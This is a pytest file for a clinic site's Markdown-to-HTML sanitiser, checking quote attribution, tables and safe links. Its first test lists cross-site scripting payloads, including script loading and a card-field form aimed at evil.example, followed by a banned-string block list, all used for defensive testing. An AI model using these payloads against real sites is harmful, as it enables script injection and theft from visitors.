"""Staff write Markdown; patients get clean HTML that can never run script."""

import pytest

from pages.markdown import render_markdown


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        '<img src="x" onerror="alert(1)">',
        '<p onclick="alert(1)">Click</p>',
        '<a href="javascript:alert(1)">link</a>',
        '<a href="JaVaScRiPt:alert(1)">link</a>',
        '<a href="&#106;avascript:alert(1)">link</a>',
        "[link](javascript:alert(1))",
        "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        '<a href="vbscript:msgbox(1)">link</a>',
        '<iframe src="https://evil.example"></iframe>',
        '<object data="x.swf"></object><embed src="x.swf">',
        '<svg onload="alert(1)"><circle r="1"/></svg>',
        "<style>body{display:none}</style>",
        '<p style="background:url(javascript:alert(1))">styled</p>',
        '<form action="https://evil.example"><input name="card"></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        "<details open ontoggle=alert(1)>",
        '<a href="https://example.com" target="_blank" onmouseover="alert(1)">x</a>',
    ],
)
def test_sanitiser_strips_script_event_handlers_and_dangerous_urls(hostile):
    html = render_markdown(f"Before\n\n{hostile}\n\nAfter").lower()

    for banned in [
        "<script",
        "javascript:",
        "vbscript:",
        "data:",
        "onerror",
        "onclick",
        "onload",
        "onmouseover",
        "ontoggle",
        "<iframe",
        "<object",
        "<embed",
        "<svg",
        "<style",
        "style=",
        "<form",
        "<input",
        "<meta",
        'target="_blank"',
    ]:
        assert banned not in html
    assert "before" in html and "after" in html


def test_script_content_is_removed_not_shown_as_text():
    html = render_markdown("<script>alert('hi')</script>Hello")

    assert "alert" not in html
    assert "Hello" in html


def test_markdown_formatting_staff_need_is_kept():
    html = render_markdown(
        "## Treatments\n\n"
        "Some **bold**, *italic* and a [link](https://example.com/page).\n\n"
        "- laser\n- cryotherapy\n\n"
        "1. first\n2. second\n\n"
        "[Milia](/treatments/milia/) or call [020 7386 0464](tel:+442073860464) "
        "or [email us](mailto:hello@example.com)."
    )

    assert "<h2>Treatments</h2>" in html
    assert "<strong>bold</strong>" in html and "<em>italic</em>" in html
    assert '<a href="https://example.com/page" rel="noopener noreferrer">link</a>' in html
    assert "<ul>\n<li>laser</li>" in html
    assert "<ol>" in html
    assert 'href="/treatments/milia/"' in html
    assert 'href="tel:+442073860464"' in html
    assert 'href="mailto:hello@example.com"' in html


def test_quote_ending_with_a_dash_line_becomes_a_figure_with_attribution():
    html = render_markdown(
        "> Milia are a tiny form of cyst.\n"
        ">\n"
        "> They can last for years.\n"
        ">\n"
        "> — Dr Ross Perry, Founder and Medical Director"
    )

    assert html == (
        '<figure class="quote"><blockquote>\n'
        "<p>Milia are a tiny form of cyst.</p>\n"
        "<p>They can last for years.</p>\n"
        "</blockquote><figcaption>— Dr Ross Perry, Founder and Medical Director"
        "</figcaption></figure>"
    )


@pytest.mark.parametrize("dash", ["—", "–", "--", "―"])
def test_attribution_accepts_the_dashes_people_type(dash):
    html = render_markdown(f"> Quote.\n>\n> {dash} Dr Ross Perry")

    assert "<figcaption>— Dr Ross Perry</figcaption>" in html


def test_attribution_on_the_line_right_after_the_quote_works_too():
    html = render_markdown("> Quote text.\n> — Dr Ross Perry")

    assert "<blockquote>\n<p>Quote text.</p>\n</blockquote>" in html
    assert "<figcaption>— Dr Ross Perry</figcaption>" in html


def test_quote_without_a_speaker_stays_a_plain_block_quote():
    html = render_markdown("> Just a quote.\n>\n> Still the quote, with a - dash inside.")

    assert "<figure" not in html
    assert html.startswith("<blockquote>")


def test_speaker_formatting_is_kept_and_sanitised():
    html = render_markdown(
        '> Quote.\n>\n> — Dr Ross Perry, [Cosmedics](https://example.com) <b onclick="x()">!</b>'
    )

    assert (
        '<figcaption>— Dr Ross Perry, <a href="https://example.com" rel="noopener noreferrer">'
        "Cosmedics</a> !</figcaption>"
    ) in html
    assert "onclick" not in html


def test_only_the_page_title_is_an_h1():
    html = render_markdown("# A big heading\n\nText\n\n###### A tiny heading")

    assert "<h1" not in html
    assert "<h2>A big heading</h2>" in html
    assert "<h4>A tiny heading</h4>" in html


def test_staff_cannot_add_classes_other_than_the_quote_figure():
    html = render_markdown('<p class="d-none">Hidden?</p><figure class="quote x">Q</figure>')

    assert 'class="d-none"' not in html
    assert 'class="quote"' in html


def test_tables_are_allowed_for_the_privacy_notice():
    html = render_markdown("| What | How long |\n| --- | --- |\n| Your request | 1 year |")

    assert "<table>" in html and "<th>What</th>" in html and "<td>1 year</td>" in html


def test_empty_body_renders_nothing():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""
